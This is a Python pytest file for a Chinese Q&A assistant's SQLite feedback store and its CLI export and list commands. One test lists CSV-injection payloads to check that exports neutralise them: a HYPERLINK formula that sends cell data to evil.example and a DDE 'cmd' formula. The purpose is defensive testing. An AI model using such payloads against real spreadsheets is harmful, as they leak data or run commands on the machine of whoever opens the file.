"""Tests for the feedback store (real SQLite files, real processes) and the `feedback` command."""

from __future__ import annotations

import csv
import io
import json
import multiprocessing
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from qa.records import Answer, Citation, Outcome, Paragraph
from qa.render.plain import plain_text
from qa.stores.feedback import MAX_COMMENT_CHARS, FeedbackError, FeedbackStore
from tests.conftest import ROOT

FUND_QUESTION = "江苏有哪些文化产业基金可以用？"
WORKERS, ROWS_EACH = 4, 50
# A small hand-built answer for the worker processes, which should not load the index.
PLAIN = Answer(
    question="深圳对文化科技有哪些专项资金支持？",
    query="深圳 文化科技 专项资金",
    parts=(Paragraph("专项资金向文化与科技领域倾斜。"),),
    citations=(Citation(doc_id="SZ", doc_title="深圳文化科技", clause_id="SZ-1", clause="（一）",
                        text="专项资金向文化与科技领域倾斜。", quote="专项资金向文化与科技领域倾斜"),),
)


@pytest.fixture(scope="module")
def fund_answer(assistant) -> Answer:
    """Return the assistant's cited answer to the fund question."""
    answer = assistant.ask(FUND_QUESTION)
    assert answer.answerable and answer.citations
    return answer


def write_rows(path: str, worker: int) -> None:
    """Write ROWS_EACH rows through its own store; runs in a spawned process."""
    with FeedbackStore(path) as store:
        for i in range(ROWS_EACH):
            store.record(PLAIN, "up" if i % 2 else "down", f"worker {worker} row {i}", session=f"w{worker}")


def run_cli(*args: object) -> subprocess.CompletedProcess[str]:
    """Run `python -m qa` from the project folder without the developer's QA_* settings."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("QA_")}
    env.update(PYTHONIOENCODING="utf-8")
    return subprocess.run([sys.executable, "-m", "qa", *map(str, args)], cwd=ROOT, env=env, capture_output=True,
                          text=True, encoding="utf-8", timeout=60, check=False)


def test_round_trip_keeps_answer_and_citations(tmp_path: Path, fund_answer: Answer) -> None:
    path = tmp_path / "nested" / "dir" / "feedback.sqlite"
    with FeedbackStore(path) as store:
        first = store.record(fund_answer, "up", "很有用", session="conv-1")
        second = store.record(PLAIN, "down")
        rows = store.all()
        assert store.count() == 2
    assert path.is_file()
    assert [r.id for r in rows] == [second, first]  # newest first
    row = rows[1]
    assert row.rating == "up" and row.comment == "很有用" and row.session == "conv-1"
    assert row.question == FUND_QUESTION and row.query == fund_answer.query
    assert row.answer == plain_text(fund_answer) and row.answerable is True
    assert row.citations == tuple(c.to_json() for c in fund_answer.citations)
    assert rows[0].comment == "" and rows[0].session == ""
    # The stored column itself is JSON text, readable without our code.
    with sqlite3.connect(path) as raw:
        (text,) = raw.execute("SELECT citations FROM feedback WHERE id = ?", (first,)).fetchone()
    assert json.loads(text)[0]["clause_id"] == fund_answer.citations[0].clause_id


@pytest.mark.parametrize("rating", ["meh", "UP", "", "👍"])
def test_invalid_rating_is_rejected(tmp_path: Path, rating: str) -> None:
    with FeedbackStore(tmp_path / "f.sqlite") as store:
        with pytest.raises(FeedbackError, match=f"无效的评价 {rating!r}.*'up'.*'down'"):
            store.record(PLAIN, rating)
        assert store.count() == 0
    assert issubclass(FeedbackError, ValueError)


def test_long_comment_is_truncated(tmp_path: Path) -> None:
    comment = "意见" * MAX_COMMENT_CHARS
    with FeedbackStore(tmp_path / "f.sqlite") as store:
        store.record(PLAIN, "down", comment)
        (row,) = store.all()
    assert row.comment == comment[:MAX_COMMENT_CHARS]


def test_exports_parse_back_to_the_same_rows(tmp_path: Path, fund_answer: Answer) -> None:
    with FeedbackStore(tmp_path / "f.sqlite") as store:
        store.record(fund_answer, "up", '含逗号, "引号"\n和换行', session="s")
        store.record(PLAIN, "down")
        rows = store.all()
        jsonl, table = io.StringIO(), io.StringIO(newline="")
        assert store.export("jsonl", jsonl) == 2
        assert store.export("csv", table) == 2
    assert [json.loads(line) for line in jsonl.getvalue().splitlines()] == [r.to_json() for r in rows]
    parsed = list(csv.DictReader(io.StringIO(table.getvalue(), newline="")))
    assert [
        {**r, "id": int(r["id"]), "answerable": bool(int(r["answerable"])), "citations": json.loads(r["citations"])}
        for r in parsed
    ] == [r.to_json() for r in rows]


def test_database_is_in_wal_mode(tmp_path: Path) -> None:
    path = tmp_path / "f.sqlite"
    FeedbackStore(path).close()
    with sqlite3.connect(path) as raw:
        assert raw.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


@pytest.mark.subprocess
def test_concurrent_processes_lose_no_rows(tmp_path: Path) -> None:
    path = str(tmp_path / "shared" / "feedback.sqlite")
    ctx = multiprocessing.get_context("spawn")
    procs = [ctx.Process(target=write_rows, args=(path, w)) for w in range(WORKERS)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=60)
    assert [p.exitcode for p in procs] == [0] * WORKERS
    with FeedbackStore(path) as store:
        rows = store.all()
        assert store.count() == WORKERS * ROWS_EACH
    assert len({r.id for r in rows}) == WORKERS * ROWS_EACH
    assert {r.session for r in rows} == {f"w{w}" for w in range(WORKERS)}


@pytest.mark.subprocess
def test_cli_exports_and_lists_rows(tmp_path: Path, fund_answer: Answer) -> None:
    db = tmp_path / "f.sqlite"
    with FeedbackStore(db) as store:
        store.record(fund_answer, "up", "基金信息很全")
        store.record(PLAIN, "down", "没有说申请条件")
        rows = store.all()

    export = run_cli("feedback", "export", "--db", db, "--format", "jsonl")
    assert export.returncode == 0, export.stderr
    assert [json.loads(line) for line in export.stdout.splitlines()] == [r.to_json() for r in rows]

    out = tmp_path / "out.csv"
    to_file = run_cli("feedback", "export", "--db", db, "--format", "csv", "-o", out)
    assert to_file.returncode == 0, to_file.stderr
    with open(out, encoding="utf-8", newline="") as f:
        assert [int(r["id"]) for r in csv.DictReader(f)] == [r.id for r in rows]

    listing = run_cli("feedback", "list", "--db", db)
    assert listing.returncode == 0, listing.stderr
    lines = listing.stdout.splitlines()
    assert len(lines) == 3  # header + two rows, newest first
    assert "down" in lines[1] and "没有说申请条件" in lines[1]
    assert "up" in lines[2] and FUND_QUESTION in lines[2] and "基金信息很全" in lines[2]
    assert len(run_cli("feedback", "list", "--db", db, "--limit", "1").stdout.splitlines()) == 2


@pytest.mark.subprocess
def test_cli_reports_missing_database(tmp_path: Path) -> None:
    missing = tmp_path / "none.sqlite"
    result = run_cli("feedback", "list", "--db", missing)
    assert result.returncode == 2
    assert "找不到反馈数据库" in result.stderr and str(missing) in result.stderr
    assert not missing.exists()


def test_rating_an_answer_again_changes_its_row(tmp_path: Path) -> None:
    """The page rates one answer once: a second click updates the row instead of adding one."""
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    answer = Answer(question="问", query="问", parts=(), outcome=Outcome.REFUSE)
    row = store.record(answer, "up", "好")
    store.update(row, "down", "引用不对")
    assert store.count() == 1
    assert [(r.rating, r.comment) for r in store.all()] == [("down", "引用不对")]
    with pytest.raises(FeedbackError):
        store.update(row + 1, "up")
    with pytest.raises(FeedbackError):
        store.update(row, "meh")


@pytest.mark.parametrize("typed", ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1"])
def test_csv_export_shows_formulas_as_text(tmp_path: Path, typed: str) -> None:
    """A comment or question typed on the public page that starts like a formula ran when an admin opened the CSV
    export in Excel/WPS: every such cell now starts with ' (OWASP CSV Injection); JSONL keeps the exact text."""
    answer = Answer(question=typed, query=typed, parts=(Paragraph(typed),), outcome=Outcome.REFUSE)
    with FeedbackStore(tmp_path / "f.sqlite") as store:
        store.record(answer, "down", typed, session=typed)
        table, jsonl = io.StringIO(newline=""), io.StringIO()
        store.export("csv", table)
        store.export("jsonl", jsonl)
    (row,) = csv.DictReader(io.StringIO(table.getvalue(), newline=""))
    for column in ("comment", "question", "query", "answer", "session"):
        assert row[column] == "'" + typed, (column, row[column])
    assert json.loads(jsonl.getvalue())["comment"] == typed


def test_csv_export_leaves_ordinary_text_alone(tmp_path: Path) -> None:
    """Only formula-like cells are marked: a comment with = or - inside it is exported as typed."""
    with FeedbackStore(tmp_path / "f.sqlite") as store:
        store.record(PLAIN, "up", "第一条-第三条 = 很清楚")
        table = io.StringIO(newline="")
        store.export("csv", table)
    (row,) = csv.DictReader(io.StringIO(table.getvalue(), newline=""))
    assert row["comment"] == "第一条-第三条 = 很清楚" and row["rating"] == "up"
